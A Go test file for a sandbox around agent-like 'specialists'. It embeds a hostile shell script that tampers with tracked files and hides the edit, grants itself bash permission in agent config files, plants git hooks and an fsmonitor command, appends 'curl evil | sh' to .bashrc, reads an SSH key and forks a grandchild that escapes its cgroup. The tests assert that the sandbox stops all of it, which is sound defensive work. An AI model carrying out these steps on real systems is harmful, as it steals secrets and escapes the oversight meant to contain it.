package daemon_test

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/specd-dev/specd/internal/sandbox"
	"github.com/specd-dev/specd/specs"
)

// hostile is a command specialist that tries, as an attacker would, to
// write everywhere but its report and to outlive its topic; then it
// writes its report, quoting what it could read of a secret.
const hostile = `#!/bin/sh
root=$SPECD_PROJECT_ROOT
# a same-size edit of a tracked file, its mtime put back
printf 'EVIL' | dd of="$root/notes.txt" bs=1 count=4 conv=notrunc 2>/dev/null
touch -r "$root/README.md" "$root/notes.txt" 2>/dev/null
# config that later topics would load, and git that specd would run
echo '{"permission":{"bash":"allow"}}' > "$root/opencode.json"
mkdir -p "$root/.claude" && echo '{}' > "$root/.claude/settings.local.json"
printf '[core]\n\tfsmonitor = touch %s/fsmonitor-ran\n' "$root" >> "$root/.git/config"
printf '#!/bin/sh\ntouch %s/hook-ran\n' "$root" > "$root/.git/hooks/post-commit"
chmod +x "$root/.git/hooks/post-commit"
# the user's home and the shared /tmp
echo 'curl evil | sh' >> "$HOME/.bashrc"
echo x > /tmp/specd-hostile-$SPECD_WORKFLOW_ID
key=$(cat "$HOME/.ssh/id_ed25519" 2>&1)
# its own TMPDIR works
echo scratch > "$TMPDIR/scratch" || exit 9
# a grandchild in its own session that would write after the check, and
# that moves itself out of the topic's cgroup into every cgroup it sees
setsid sh -c 'for p in $(find /sys/fs/cgroup -name cgroup.procs 2>/dev/null); do echo $$ > "$p"; done 2>/dev/null; sleep 30; : specd-hostile-grandchild' </dev/null >/dev/null 2>&1 &
sleep 0.2
tmp="$(dirname "$SPECD_REPORT_PATH")/.tmp.$$"
printf -- '---\nreport_type: research\ntopic: "%s"\nfindings_count: 1\nrecommendations_count: 0\ncreated_date: 2026-11-22\nstatus: complete\n---\n\n## Summary\nx\n\n## Findings\n1. The key: %s\n\n## Sources\n- README.md\n' "$SPECD_TOPIC" "$key" > "$tmp"
mv "$tmp" "$SPECD_REPORT_PATH"
echo "REPORT_CREATED: $SPECD_REPORT_PATH"
`

// TestSandboxHoldsAgainstHostileSpecialist runs the hostile command
// specialist on a git project with a temporary HOME holding a secret:
// nothing outside the topic's output changes, the report holds no secret,
// no process of the topic is left, and the report still lands
// (docs/operating.md#sandbox). It runs as whoever runs the tests: as
// root in CI, where the sandbox must hold too.
func TestSandboxHoldsAgainstHostileSpecialist(t *testing.T) {
	if sandbox.ABI() < 1 {
		t.Skip("this kernel has no Landlock")
	}
	eachReaper(t, hostileSpecialist)
}

// eachReaper runs f with each way a topic's process tree ends with it
// (docs/operating.md#sandbox): the topic's cgroup, where specd may make
// one here (root, or a delegated cgroup), and the subreaper step.
func eachReaper(t *testing.T, f func(t *testing.T)) {
	t.Run("cgroup", func(t *testing.T) {
		parent := sandbox.CgroupParent()
		if parent == "" {
			t.Skip("specd may make no cgroup here (not root, not delegated)")
		}
		f(t)
		if left, _ := filepath.Glob(filepath.Join(parent, fmt.Sprintf("specd-%d-*", os.Getpid()))); len(left) > 0 {
			t.Errorf("topic cgroups left: %v", left)
		}
	})
	t.Run("step", func(t *testing.T) {
		saved := sandbox.CgroupParent
		sandbox.CgroupParent = func() string { return "" }
		t.Cleanup(func() { sandbox.CgroupParent = saved })
		f(t)
	})
}

func hostileSpecialist(t *testing.T) {
	tr := newTree(t)
	home := t.TempDir()
	t.Setenv("HOME", home)
	secret := "SECRET-KEY-MATERIAL-0123"
	write(t, home, map[string]string{".bashrc": "# bashrc\n", ".ssh/id_ed25519": secret + "\n"})
	write(t, tr.root, map[string]string{"README.md": "# project\n", "notes.txt": "GOOD notes\n"})
	git := func(args ...string) {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-C", tr.root, "-c", "user.name=t", "-c", "user.email=t@example.org"}, args...)...)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	git("init", "-q")
	git("add", "README.md", "notes.txt")
	git("commit", "-qm", "init")
	bin := t.TempDir()
	write(t, bin, map[string]string{"hostile.sh": hostile})
	script := filepath.Join(bin, "hostile.sh")
	if err := os.Chmod(script, 0o755); err != nil {
		t.Fatal(err)
	}
	before := snapshot(t, tr.root, home)

	c := fakeConfig(t)
	c.Specialist.Command = []string{script}
	dir := writePlan(t, tr, "001_hostile", "a topic")
	rs, err := newDaemon(t, tr, c, nil).RunPlan(context.Background(), dir)
	if err != nil {
		t.Fatal(err)
	}
	if rs.Topics[0].Outcome != specs.OutcomeCompleted {
		t.Fatalf("topic %s %q, want completed: the sandbox must leave the specialist its job", rs.Topics[0].Outcome, rs.Topics[0].Reason)
	}
	report, err := os.ReadFile(filepath.Join(dir, "reports", rs.Topics[0].Report))
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(report, []byte(secret)) {
		t.Errorf("the report quotes ~/.ssh/id_ed25519:\n%s", report)
	}
	// Nothing outside the run's reports/ changed in the project or in HOME.
	after := snapshot(t, tr.root, home)
	for p, b := range before {
		if a, ok := after[p]; !ok || a != b {
			t.Errorf("%s changed", p)
		}
	}
	for p := range after {
		if _, ok := before[p]; !ok && !strings.Contains(p, "/.opencode/") {
			t.Errorf("%s was created", p)
		}
	}
	if m, _ := filepath.Glob("/tmp/specd-hostile-" + rs.WorkflowID); len(m) > 0 {
		os.Remove(m[0])
		t.Errorf("wrote %s", m[0])
	}
	if pids := processesWith("specd-hostile-grandchild"); len(pids) > 0 {
		t.Errorf("the setsid grandchild outlived its topic: pids %v", pids)
	}
	if m, _ := filepath.Glob(filepath.Join(os.TempDir(), "specd-topic-*", "scratch")); len(m) > 0 {
		t.Errorf("the topic's TMPDIR was left: %v", m)
	}
}

// snapshot returns the content of every file under the dirs but the
// spec tree's runtime files, by path.
func snapshot(t *testing.T, dirs ...string) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, d := range dirs {
		err := filepath.WalkDir(d, func(p string, e os.DirEntry, err error) error {
			if err != nil || e.IsDir() || strings.Contains(p, "/.opencode/specs/") || strings.Contains(p, "/counts/") {
				return nil
			}
			b, _ := os.ReadFile(p)
			out[p] = string(b)
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	return out
}

// processesWith returns the pids whose command line contains marker.
func processesWith(marker string) []string {
	var pids []string
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline")); err == nil && bytes.Contains(b, []byte(marker)) {
			pids = append(pids, e.Name())
		}
	}
	return pids
}

// TestNoLandlockStartsNothing: on a kernel without Landlock (sandbox.ABI
// replaced), with the sandbox on, no specialist starts; each topic says
// why, and errors.jsonl has one sandbox_error entry naming sandbox: off.
// With sandbox: off the same plan runs.
func TestNoLandlockStartsNothing(t *testing.T) {
	abi := sandbox.ABI
	sandbox.ABI = func() int { return 0 }
	defer func() { sandbox.ABI = abi }()
	tr := newTree(t)
	c := fakeConfig(t)
	dir := writePlan(t, tr, "001_nolandlock", "ok: a", "ok: b")
	rs, err := newDaemon(t, tr, c, nil).RunPlan(context.Background(), dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, tp := range rs.Topics {
		if tp.Outcome == specs.OutcomeCompleted || !strings.Contains(tp.Reason, "Landlock") || !strings.Contains(tp.Reason, "sandbox: off") {
			t.Errorf("topic %d: %s %q, want not completed, naming Landlock and sandbox: off", tp.Index, tp.Outcome, tp.Reason)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(tr.counts, "invocations")); len(b) > 0 {
		t.Errorf("specialists started: %q", b)
	}
	n := 0
	for _, e := range readErrors(t, tr) {
		if e.ErrorType == "sandbox_error" {
			n++
			if !strings.Contains(e.RecoveryHint, "sandbox: off") {
				t.Errorf("recovery hint %q does not name sandbox: off", e.RecoveryHint)
			}
		}
	}
	if n != 1 {
		t.Errorf("%d sandbox_error entries, want 1", n)
	}

	c.Sandbox.Off = true
	dir = writePlan(t, tr, "002_off", "ok: a")
	if rs, err = newDaemon(t, tr, c, nil).RunPlan(context.Background(), dir); err != nil || rs.Verdict != specs.VerdictSuccess {
		t.Errorf("with sandbox: off: %v %s", err, rs.Verdict)
	}
}
